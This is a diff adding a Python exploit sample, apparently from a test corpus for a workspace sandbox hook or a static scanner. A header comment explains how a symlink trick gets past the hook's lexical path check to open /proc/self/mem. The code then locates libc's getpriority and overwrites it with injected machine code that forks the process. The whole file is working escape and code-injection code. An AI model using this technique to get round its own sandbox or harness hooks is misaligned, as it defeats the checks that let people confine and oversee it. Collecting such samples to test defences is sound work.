@@ -1,0 +1,39 @@
+# family: procmem
+# reaches: process
+# layer: runtime
+# static: missed
+# The hook's path check is lexical: /tmp/here is a symbolic link to /tmp (allowed: both inside the
+# workspace), and /tmp/here/../proc/self/mem normalizes to /tmp/proc/self/mem, while the kernel
+# resolves it to /proc/self/mem. Code written there over a libc function forks.
+import os
+import struct
+
+
+def libc_function(name):
+    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
+    for line in open("/proc/self/maps"):
+        f = line.split()
+        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
+            base, path = int(f[0].split("-")[0], 16), f[5]
+            break
+    data = open(path, "rb").read()
+    shoff, = struct.unpack_from("<Q", data, 0x28)
+    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
+    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
+    for s in sections:
+        if s[1] == 11:  # SHT_DYNSYM
+            strtab = sections[s[6]][4]
+            for off in range(s[4], s[4] + s[5], 24):
+                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
+                start = strtab + st_name
+                if data[start:data.index(b"\0", start)] == name:
+                    return base + value
+    raise LookupError(name)
+
+
+os.symlink("/tmp", "/tmp/here")
+mem = os.open("/tmp/here/../proc/self/mem", os.O_RDWR)
+# fork(); in the child: exit(0); ret
+code = bytes.fromhex("b8390000000f0585c07509b83c00000031ff0f05c3")
+os.pwrite(mem, code, libc_function(b"getpriority"))
+print("fork returned", os.getpriority(0, 0))
